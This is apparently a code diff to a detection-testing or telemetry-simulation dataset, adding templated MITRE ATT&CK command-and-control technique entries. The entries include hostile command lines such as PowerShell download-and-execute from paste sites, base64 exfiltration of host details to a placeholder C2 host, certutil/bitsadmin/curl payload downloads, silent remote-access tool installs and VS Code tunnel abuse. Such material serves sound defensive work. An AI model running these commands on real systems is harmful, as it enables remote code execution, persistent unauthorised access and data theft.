@@ -48,4 +48,288 @@ export const commandAndControlB = [
       shell: "none",
     }),
   ]),
+  t("T1102", "Web service", "C2 through a legitimate web service API.", [
+    v(
+      "pastebin",
+      [
+        {
+          ps: "iex (iwr -UseBasicParsing https://pastebin.com/raw/{{rand}}).Content",
+          net: [["pastebin.com", 443]],
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1102.001", "Dead drop resolver", "C2 address read from a public page.", [
+    v(
+      "github-gist",
+      [
+        {
+          ps: "$u = (iwr https://gist.githubusercontent.com/{{rand}}/raw/c2.txt).Content",
+          net: [["gist.githubusercontent.com", 443]],
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1102.002", "Bidirectional communication", "Commands and results through Telegram/Discord/Graph APIs.", [
+    v("telegram", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["api.telegram.org", 443]], keep: true }], {
+      shell: "none",
+    }),
+    v("discord", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["discord.com", 443]], keep: true }], {
+      shell: "none",
+    }),
+  ]),
+  t("T1102.003", "One-way communication", "Commands read from a web page without replies.", [
+    v(
+      "read-page",
+      [
+        {
+          ps: "iex (iwr https://docs.google.com/document/d/{{rand2}}/export?format=txt).Content",
+          net: [["docs.google.com", 443]],
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1132", "Data encoding", "Base64-encoded C2 traffic.", [
+    v(
+      "b64-post",
+      [
+        {
+          ps: "$d = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((whoami))); iwr -Method Post -Uri https://{{c2}}/c -Body $d",
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1132.001", "Standard encoding", "Base64 in URLs and bodies.", [
+    v(
+      "b64-get",
+      [
+        {
+          ps: 'iwr "https://{{c2}}/q?d=$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:COMPUTERNAME)))"',
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ]),
+  t("T1132.002", "Non-standard encoding", "A custom alphabet used by the implant.", [
+    v("implant", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
+      shell: "none",
+    }),
+  ]),
+  t(
+    "T1219",
+    "Remote access tools",
+    "Legitimate RMM software installed for access (AnyDesk, ScreenConnect, TeamViewer).",
+    [
+      v(
+        "anydesk",
+        [
+          {
+            cmd: '"C:\\ProgramData\\AnyDesk.exe" --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
+            net: [["relay-{{rand}}.net.anydesk.com", 443]],
+          },
+        ],
+        { elevated: true },
+      ),
+      v(
+        "screenconnect",
+        [
+          {
+            cmd: 'msiexec.exe /i "{{downloads}}\\ScreenConnect.ClientSetup.msi" /qn',
+            net: [["instance-{{rand}}-relay.screenconnect.com", 443]],
+          },
+        ],
+        { elevated: true },
+      ),
+    ],
+  ),
+  t("T1219.001", "IDE tunneling", "VS Code tunnels exposing the host.", [
+    v("code-tunnel", [
+      {
+        cmd: "{{tmp}}\\code.exe tunnel --accept-server-license-terms --name {{me}}",
+        net: [["global.rel.tunnels.api.visualstudio.com", 443]],
+      },
+    ]),
+    // The standalone VS Code CLI dropped under a benign name (as in Operation Digital Eye): it registers the
+    // tunnel, fetches the server, starts it through code-server.cmd, and the remote user opens a terminal.
+    v(
+      "renamed-cli",
+      [
+        {
+          cmd: "{{local}}\\Microsoft\\{{name}}.exe tunnel --accept-server-license-terms --name {{me}}-{{n}}",
+          as: "cli",
+          net: [
+            ["global.rel.tunnels.api.visualstudio.com", 443],
+            ["update.code.visualstudio.com", 443],
+          ],
+          files: ["{{home}}\\.vscode\\cli\\servers\\Stable-{{$commit}}\\server\\node.exe"],
+          keep: true,
+        },
+        {
+          cmd: 'C:\\Windows\\system32\\cmd.exe /d /c "{{home}}\\.vscode\\cli\\servers\\Stable-{{$commit}}\\server\\bin\\code-server.cmd" --connection-token=remotessh --accept-server-license-terms --start-server --enable-remote-auto-shutdown --socket-path={{tmp}}\\code-{{rand}}',
+          as: "srvcmd",
+          parent: "cli",
+        },
+        {
+          cmd: '"{{home}}\\.vscode\\cli\\servers\\Stable-{{$commit}}\\server\\node.exe" "{{home}}\\.vscode\\cli\\servers\\Stable-{{$commit}}\\server\\out\\server-main.js" --connection-token=remotessh --accept-server-license-terms --start-server --enable-remote-auto-shutdown',
+          as: "node",
+          parent: "srvcmd",
+          keep: true,
+        },
+      ],
+      {
+        vars: {
+          commit:
+            "{{f1e16e1e6214d7c44d078b1f0607b2388f29d729|ea1445cc7016315d0f5728f8e8b12a45dc0a7286|384ff7382de624fb94dbaf6da11977bba1ecd427}}",
+        },
+      },
+    ),
+  ]),
+  t("T1219.002", "Remote desktop software", "AnyDesk, TeamViewer, Atera, Splashtop installed silently.", [
+    v(
+      "anydesk",
+      [
+        {
+          cmd: "cmd.exe /c echo P@ss{{n}} | C:\\ProgramData\\AnyDesk.exe --set-password",
+          net: [["boot.net.anydesk.com", 443]],
+        },
+      ],
+      { elevated: true },
+    ),
+    v(
+      "teamviewer",
+      [
+        {
+          cmd: '"C:\\Program Files\\TeamViewer\\TeamViewer.exe" assign --api-token {{rand2}} --grant-easy-access',
+          net: [["router{{n}}.teamviewer.com", 443]],
+        },
+      ],
+      { elevated: true },
+    ),
+    v("atera", ["msiexec /i {{tmp}}\\setup.msi /qn IntegratorLogin={{rand}}@proton.me CompanyId=1"], {
+      elevated: true,
+    }),
+  ]),
+  t("T1219.003", "Remote access hardware", "A KVM/IP device attached; host sees a new USB HID.", [
+    v("pnp", ["pnputil /enum-devices /class Keyboard"]),
+    // A PiKVM/TinyPilot plugged in: Plug and Play enumerates a Linux USB gadget (VID 1D6B, PID 0104) as
+    // keyboard and mouse; the remote operator then logs on at the console and works through Explorer.
+    v(
+      "pikvm-console",
+      [
+        {
+          by: "@svchost:DcomLaunch",
+          regKeys: [
+            "HKLM\\SYSTEM\\CurrentControlSet\\Enum\\USB\\VID_1D6B&PID_0104\\{{rand2}}",
+            "HKLM\\SYSTEM\\CurrentControlSet\\Enum\\HID\\VID_1D6B&PID_0104&MI_00\\7&{{rand2}}&0&0000",
+          ],
+          then: [
+            {
+              id: "console",
+              kind: "logon",
+              session: "kvm",
+              user: "@user",
+              logonType: 2,
+              authPackage: "Negotiate",
+              delayMs: 60000,
+            },
+          ],
+        },
+        { cmd: '"C:\\Windows\\system32\\cmd.exe" ', parent: "@explorer", as: "c", delay: 20000 },
+        { cmd: "query user", parent: "c", image: "C:\\Windows\\System32\\query.exe" },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t("T1568", "Dynamic resolution", "Implant resolving algorithmically chosen domains.", [
+    v(
+      "dga",
+      [
+        {
+          cmd: "{{appdata}}\\{{name}}.exe",
+          dns: ["{{rand2}}.com", "{{rand}}{{rand}}.net", "{{rand2}}.biz"],
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t("T1568.001", "Fast flux DNS", "A domain with rapidly changing answers queried repeatedly.", [
+    v("flux", [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}", "{{c2}}", "{{c2}}"] }], { shell: "none" }),
+  ]),
+  t("T1568.002", "Domain generation algorithms", "Many NXDOMAIN lookups of random-looking names.", [
+    v(
+      "dga",
+      [
+        {
+          cmd: "{{appdata}}\\{{name}}.exe",
+          then: ["a", "b", "c", "d", "e", "f"].map((x, n) => ({
+            id: `q${n}`,
+            kind: "dns.query" as const,
+            name: `${x}{{rand2}}{{rand}}.com`,
+            status: 9003,
+          })),
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
+  ]),
+  t("T1568.003", "DNS calculation", "The C2 port derived from a resolved address.", [
+    v("calc", [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}"], net: [["{{c2ip}}", 8081]] }], {
+      shell: "none",
+    }),
+  ]),
+  t("T1104", "Multi-stage channels", "A first-stage loader fetching a second stage from another host.", [
+    v("stager", [
+      { cmd: "{{tmp}}\\{{rand}}.exe", as: "s1", net: [["{{c2}}", 443]] },
+      { cmd: "{{appdata}}\\{{name}}.exe", parent: "s1", net: [["cdn-{{c2}}", 443]] },
+    ]),
+  ]),
+  t("T1105", "Ingress tool transfer", "Tools downloaded with certutil, bitsadmin, curl, Invoke-WebRequest.", [
+    v("certutil-urlcache", [
+      {
+        cmd: "certutil.exe -urlcache -split -f http://{{c2ip}}/{{rand}}.exe C:\\Users\\Public\\{{rand}}.exe",
+        net: [["{{c2ip}}", 80]],
+        files: ["C:\\Users\\Public\\{{rand}}.exe"],
+      },
+    ]),
+    v("curl", [
+      {
+        cmd: "curl.exe -k -o {{tmp}}\\{{rand}}.exe https://{{c2}}/{{rand}}.exe",
+        net: [["{{c2}}", 443]],
+        files: ["{{tmp}}\\{{rand}}.exe"],
+      },
+    ]),
+    v(
+      "invoke-webrequest",
+      [
+        {
+          ps: "Invoke-WebRequest -Uri https://{{c2}}/{{rand}}.zip -OutFile $env:TEMP\\{{rand}}.zip",
+          net: [["{{c2}}", 443]],
+          files: ["{{tmp}}\\{{rand}}.zip"],
+        },
+      ],
+      { shell: "ps" },
+    ),
+    v("bitsadmin", [
+      {
+        cmd: "bitsadmin /transfer job /download /priority normal http://{{c2}}/{{rand}}.exe C:\\ProgramData\\{{rand}}.exe",
+        net: [["{{c2}}", 80]],
+      },
+    ]),
+    // The same download typed at cmd as a PowerShell one-liner (common in hands-on-keyboard intrusions).
+    v("powershell-iwr-cli", [
+      {
+        cmd: 'powershell.exe -nop -c "iwr -Uri https://{{c2}}/{{rand}}.exe -OutFile C:\\Users\\Public\\{{rand}}.exe"',
+        net: [["{{c2}}", 443]],
+        files: ["C:\\Users\\Public\\{{rand}}.exe"],
+      },
+    ]),
+  ]),
 ];
